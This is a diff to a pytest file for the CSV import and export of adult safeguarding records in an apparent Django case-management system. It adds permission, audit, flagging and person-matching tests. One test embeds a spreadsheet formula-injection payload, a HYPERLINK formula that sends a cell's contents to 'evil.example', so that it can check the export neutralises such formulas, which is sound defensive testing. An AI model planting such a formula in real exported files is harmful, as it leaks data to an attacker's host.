@@ -6,12 +6,14 @@ from datetime import UTC, date, datetime
 from unittest import mock
 
 import pytest
+from django.core.exceptions import PermissionDenied
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from safehub.adults import io as adults_io
-from safehub.adults.models import Enquiry, SafeguardingConcern
+from safehub.adults.models import Enquiry, ImportedPerson, ImportedRow, SafeguardingConcern
 from safehub.core.models import AuditAction, AuditEvent
+from safehub.people.models import Address, DuplicateCandidate, Person
 from safehub.testing.factories import AgencyFactory, PersonFactory
 
 pytestmark = pytest.mark.django_db
@@ -19,9 +21,7 @@ NOW = datetime(2025, 5, 1, 12, tzinfo=UTC)
 
 
 @pytest.fixture
-def setting(db):
-    AgencyFactory(kind="LA_ADULTS", code="ASC", name="Adult Social Care")
-    AgencyFactory(kind="CARE_PROVIDER", code="CARE1", name="Oakfield")
+def setting(council, care_provider):
     AgencyFactory(kind="POLICE", code="POL", name="Police")
     return PersonFactory(date_of_birth=date(1940, 1, 1), nhs_number="9434765919")
 
@@ -60,8 +60,8 @@ def enquiry_row(record_id="E1", concern="C1", **extra):
         "started_date": "2024-06-05",
         "concluded_date": "2024-08-01",
         "risk_types": "neglect; FINANCIAL",
-        "risk_location": "CARE_HOME",
-        "risk_source": "SERVICE_PROVIDER",
+        "risk_locations": "CARE_HOME;COMMUNITY",
+        "risk_sources": "SERVICE_PROVIDER; known;SERVICE_PROVIDER",
         "action_taken": "Y",
         "risk_outcome": "REDUCED",
         "lacked_capacity": "YES",
@@ -83,23 +83,27 @@ def to_csv(rows) -> str:
     return out.getvalue()
 
 
-def test_import_creates_concern_and_enquiry_with_every_sac_field(setting):
-    result = adults_io.adults_csv_import(text=to_csv([enquiry_row(), concern_row()]), now=NOW)
-    assert (result.created, result.errors) == (2, [])
+def test_import_creates_concern_and_enquiry_with_every_sac_field(setting, adult_social_worker):
+    result = adults_io.adults_csv_import(text=to_csv([enquiry_row(), concern_row()]), by=adult_social_worker, now=NOW)
+    assert (result.created, result.errors, result.flagged) == (2, [], [])
     enquiry = Enquiry.objects.get()
     assert enquiry.concern.source_record_id == "C1"
     assert enquiry.risk_type_codes() == ["FINANCIAL", "NEGLECT"]
+    assert enquiry.risk_location_codes() == ["CARE_HOME", "COMMUNITY"]
+    assert enquiry.risk_source_codes() == ["KNOWN", "SERVICE_PROVIDER"]
     assert (enquiry.carried_out_by.code, enquiry.lacked_capacity, enquiry.advocate_support) == ("CARE1", "YES", True)
     assert AuditEvent.objects.filter(action=AuditAction.IMPORT).count() == 2
 
 
-def test_reimport_changes_nothing_and_a_changed_row_updates(setting):
+def test_reimport_changes_nothing_and_a_changed_row_updates(setting, adult_social_worker):
     text = to_csv([concern_row(), enquiry_row()])
-    adults_io.adults_csv_import(text=text, now=NOW)
-    again = adults_io.adults_csv_import(text=text, now=NOW)
+    adults_io.adults_csv_import(text=text, by=adult_social_worker, now=NOW)
+    again = adults_io.adults_csv_import(text=text, by=adult_social_worker, now=NOW)
     assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
     changed = adults_io.adults_csv_import(
-        text=to_csv([concern_row(), enquiry_row(risk_types="NEGLECT", risk_outcome="REMOVED")]), now=NOW
+        text=to_csv([concern_row(), enquiry_row(risk_types="NEGLECT", risk_outcome="REMOVED")]),
+        by=adult_social_worker,
+        now=NOW,
     )
     assert (changed.created, changed.updated, changed.unchanged) == (0, 1, 1)
     enquiry = Enquiry.objects.get()
@@ -114,47 +118,58 @@ def test_export_reimports_onto_the_same_records(setting, adult_mash_manager, adu
     decide(concern, adult_social_worker, datetime(2024, 6, 4, 10, tzinfo=UTC))
     complete_enquiry(Enquiry.objects.get(), adult_social_worker, datetime(2024, 6, 4, 10, tzinfo=UTC))
     out = io.StringIO()
-    assert adults_io.adults_csv_export(year="2024-25", out=out, now=NOW) == 2
-    result = adults_io.adults_csv_import(text=out.getvalue(), now=NOW)
+    assert adults_io.adults_csv_export(year="2024-25", out=out, by=adult_social_worker, now=NOW) == 2
+    result = adults_io.adults_csv_import(text=out.getvalue(), by=adult_social_worker, now=NOW)
     assert (result.unchanged, result.created, result.errors) == (2, 0, [])
 
 
-def test_bad_rows_are_reported_with_row_and_column_and_good_rows_kept(setting):
+def test_bad_rows_are_reported_and_kept_and_odd_values_flagged_not_dropped(setting, adult_social_worker):
     rows = [
         concern_row("C1"),
         concern_row("C2", received_date="31/02/2024"),
         concern_row("C3", care_and_support_needs="N"),  # S42 decision without the test
         concern_row("C4", consent="REFUSED"),  # no lawful basis
         enquiry_row("E9", concern="NOPE"),
-        enquiry_row("E1", concern="C1", risk_types="NEGLECT;TAX_EVASION"),
+        enquiry_row("E1", concern="C1", risk_types="NEGLECT;TAX_EVASION", interpreter_used="perhaps"),
     ]
-    result = adults_io.adults_csv_import(text=to_csv(rows), now=NOW)
-    assert result.created == 1
+    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    assert result.created == 2
     assert SafeguardingConcern.objects.get().source_record_id == "C1"
     by_row = {e["row"]: e["column"] for e in result.errors}
-    assert by_row == {
-        3: "received_date",
-        4: "decision",
-        5: "lawful_basis",
-        6: "concern_record_id",
-        7: "risk_types",
-    }
+    assert by_row == {3: "received_date", 4: "decision", 5: "lawful_basis", 6: "concern_record_id"}
     assert all(set(e) == {"row", "column", "value", "message"} for e in result.errors)
+    # The odd values are flagged, the rest of the enquiry imported.
+    assert {(f["row"], f["column"], f["value"]) for f in result.flagged} == {
+        (7, "risk_types", "TAX_EVASION"),
+        (7, "interpreter_used", "perhaps"),
+    }
+    enquiry = Enquiry.objects.get()
+    assert (enquiry.risk_type_codes(), enquiry.interpreter_used) == (["NEGLECT"], None)
+    # Every row is kept as read: rejected ones for correction, the flagged one with its odd values.
+    kept = {r.row_key: r for r in ImportedRow.objects.all()}
+    assert {k: r.status for k, r in kept.items()} == {
+        "C1": "IMPORTED", "C2": "REJECTED", "C3": "REJECTED", "C4": "REJECTED", "E9": "REJECTED", "E1": "FLAGGED",
+    }  # fmt: skip
+    assert kept["E1"].raw["risk_types"] == "NEGLECT;TAX_EVASION" and kept["E1"].enquiry_id == enquiry.pk
+    assert kept["C2"].raw["received_date"] == "31/02/2024"
+    again = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    assert (again.created, again.updated, again.unchanged, len(again.errors)) == (0, 0, 2, 4)
+    assert ImportedRow.objects.count() == 6
 
 
-def test_s42_enquiry_from_a_concern_failing_the_test_is_refused(setting):
+def test_s42_enquiry_from_a_concern_failing_the_test_is_refused(setting, adult_social_worker):
     rows = [concern_row(decision="OTHER", unable_to_protect_self="N"), enquiry_row()]
-    result = adults_io.adults_csv_import(text=to_csv(rows), now=NOW)
+    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
     assert [e["column"] for e in result.errors] == ["enquiry_kind"]
     assert not Enquiry.objects.exists()
 
 
-def test_missing_columns_are_reported():
-    result = adults_io.adults_csv_import(text="a,b\n1,2\n", now=NOW)
+def test_missing_columns_are_reported(adult_social_worker):
+    result = adults_io.adults_csv_import(text="a,b\n1,2\n", by=adult_social_worker, now=NOW)
     assert result.errors[0]["message"] == "Missing required columns" and result.created == 0
 
 
-def test_a_crash_leaves_nothing_half_imported(setting):
+def test_a_crash_leaves_nothing_half_imported(setting, adult_social_worker):
     rows = [concern_row("C1"), concern_row("C2")]
     real = adults_io._import_row
     calls = []
@@ -166,7 +181,7 @@ def test_a_crash_leaves_nothing_half_imported(setting):
         return real(*args, **kwargs)
 
     with mock.patch.object(adults_io, "_import_row", crash_on_second), pytest.raises(RuntimeError):
-        adults_io.adults_csv_import(text=to_csv(rows), now=NOW)
+        adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
     assert not SafeguardingConcern.objects.exists()
 
 
@@ -179,13 +194,122 @@ COLUMNS_TO_BREAK = [c for c in adults_io.COMMON + adults_io.CONCERN_COLUMNS if c
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(breakages=st.lists(st.tuples(st.sampled_from(COLUMNS_TO_BREAK), JUNK), min_size=1, max_size=4))
-def test_malformed_cells_never_crash_and_never_lose_a_good_row(setting, breakages):
+def test_malformed_cells_never_crash_and_never_lose_a_good_row(setting, adult_social_worker, breakages):
     bad = concern_row("BAD")
     for column, junk in breakages:
         bad[column] = junk
     good = concern_row("GOOD")
-    result = adults_io.adults_csv_import(text=to_csv([bad, good]), now=NOW)
+    result = adults_io.adults_csv_import(text=to_csv([bad, good]), by=adult_social_worker, now=NOW)
     assert SafeguardingConcern.objects.filter(source_record_id="GOOD").exists()
     assert all(e["row"] in (2, 3) and isinstance(e["message"], str) and e["message"] for e in result.errors)
     assert result.imported + len({e["row"] for e in result.errors}) == 2
-    SafeguardingConcern.objects.all().delete()  # each example starts empty (the db is shared across examples)
+    assert ImportedRow.objects.count() == 2  # the broken row is kept whatever happened to it
+    # each example starts empty (the db is shared across examples)
+    ImportedRow.objects.all().delete()
+    SafeguardingConcern.objects.all().delete()
+
+
+def test_export_neutralises_formulas_and_the_reimport_restores_them(setting, adult_mash_manager, adult_social_worker):
+    """Issue 24 (6): free text was written raw, so a spreadsheet would run ``=HYPERLINK(...)``."""
+    from .helpers import decide, raise_concern
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    concern = raise_concern(
+        setting, adult_mash_manager, datetime(2024, 6, 3, 10, tzinfo=UTC), what_happened=formula, adult_views="+44 1"
+    )
+    decide(concern, adult_social_worker, datetime(2024, 6, 4, 10, tzinfo=UTC), decision="OTHER")
+    out = io.StringIO()
+    adults_io.adults_csv_export(year="2024-25", out=out, by=adult_social_worker, now=NOW)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    concern_cells = next(r for r in rows if r["record_type"] == "CONCERN")
+    assert concern_cells["what_happened"] == "'" + formula
+    assert concern_cells["adult_views"] == "'+44 1"
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
+    result = adults_io.adults_csv_import(text=out.getvalue(), by=adult_social_worker, now=NOW)
+    assert (result.unchanged, result.errors) == (2, [])
+    concern.refresh_from_db()
+    assert concern.what_happened == formula
+
+
+def test_export_lists_only_adults_the_user_may_open_and_audits_each(setting, adult_social_worker):
+    hidden = PersonFactory(date_of_birth=date(1950, 1, 1), nhs_number="4010232137")
+    rows = [concern_row("C1"), concern_row("C2", person_nhs_number="4010232137")]
+    adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    Involvement = __import__("safehub.people.models", fromlist=["Involvement"]).Involvement
+    Involvement.objects.filter(person=hidden).delete()  # the council no longer works with this adult
+    out = io.StringIO()
+    assert adults_io.adults_csv_export(year="2024-25", out=out, by=adult_social_worker, now=NOW) == 1
+    assert "4010232137" not in out.getvalue()
+    listed = AuditEvent.objects.filter(details__list="adults CSV export")
+    assert list(listed.values_list("person_id", flat=True)) == [setting.pk]
+
+
+def test_export_and_import_refuse_users_without_the_permission(setting, analyst):
+    with pytest.raises(PermissionDenied):
+        adults_io.adults_csv_export(year="2024-25", out=io.StringIO(), by=analyst, now=NOW)
+    with pytest.raises(PermissionDenied):
+        adults_io.adults_csv_import(text=to_csv([concern_row()]), by=analyst, now=NOW)
+
+
+def person_row(record_id, person_id, **person):
+    row = concern_row(record_id, person_nhs_number="", person_record_id=person_id)
+    row.update({f"person_{k}": v for k, v in person.items()})
+    return row
+
+
+def test_import_creates_people_once_and_a_reimport_creates_none(setting, adult_social_worker):
+    rows = [
+        person_row("M1", "P-77", given_name="Walter", family_name="Oduya", date_of_birth="1946-02-11",
+                   sex="M", address_line_1="4 Quay Street", postcode="SO14 3AB", nhs_number="4010232137"),
+        person_row("M2", "P-77"),  # later rows need only the source system's person id
+    ]  # fmt: skip
+    before = Person.objects.count()
+    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    assert (result.created, result.errors, result.people["created"]) == (2, [], 1)
+    walter = Person.objects.get(family_name="Oduya")
+    assert (walter.date_of_birth, walter.nhs_number, walter.addresses.get().postcode) == (
+        date(1946, 2, 11),
+        "4010232137",
+        "SO14 3AB",
+    )
+    assert set(SafeguardingConcern.objects.values_list("person_id", flat=True)) == {walter.pk}
+    assert ImportedPerson.objects.get(source_person_id="P-77").person == walter
+    again = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    assert (again.created, again.unchanged, Person.objects.count()) == (0, 2, before + 1)
+
+
+def test_import_links_a_register_match_and_queues_an_uncertain_one(setting, adult_social_worker):
+    """The three bands of the matching engine's probability (SAFEHUB_MATCH_THRESHOLDS 0.95 / 0.6).
+
+    The probabilities are the engine's for these details (measured: "Maggie" with the same date of
+    birth, sex and postcode 98.9%, "Margaret" 74.6%, another name 0%).
+    """
+    from safehub.people.matching_service import reset_index
+
+    reset_index()
+    known = PersonFactory(given_name="Margaret", family_name="Ellery", date_of_birth=date(1931, 7, 19), sex="F")
+    Address.objects.create(person=known, line_1="1 Elm Road", postcode="SO15 2AA")
+    same = {"family_name": "Ellery", "date_of_birth": "1931-07-19", "sex": "F", "postcode": "SO15 2AA"}
+    rows = [
+        person_row("L1", "A1", given_name="Maggie", **same),
+        person_row("L2", "A2", given_name="Margaret", **same),
+        person_row("L3", "A3", given_name="Zbigniew", family_name="Quarrington", date_of_birth="1960-01-01"),
+    ]
+    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    reset_index()
+    assert result.errors == []
+    people = dict(SafeguardingConcern.objects.values_list("source_record_id", "person_id"))
+    how = dict(ImportedPerson.objects.values_list("source_person_id", "how"))
+    assert how == {"A1": "LINKED", "A2": "REVIEW", "A3": "CREATED"}
+    assert people["L1"] == known.pk
+    assert people["L2"] != known.pk
+    pair = DuplicateCandidate.objects.get()
+    assert ({pair.person_a_id, pair.person_b_id}, pair.status) == ({known.pk, people["L2"]}, "PENDING")
+    assert result.people == {"linked": 1, "created": 1, "review": 1}
+
+
+def test_import_without_a_person_is_kept_and_reported(setting, adult_social_worker):
+    rows = [concern_row("N1", person_nhs_number="")]
+    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
+    assert [e["column"] for e in result.errors] == ["person_family_name"]
+    assert ImportedRow.objects.get().status == "REJECTED"
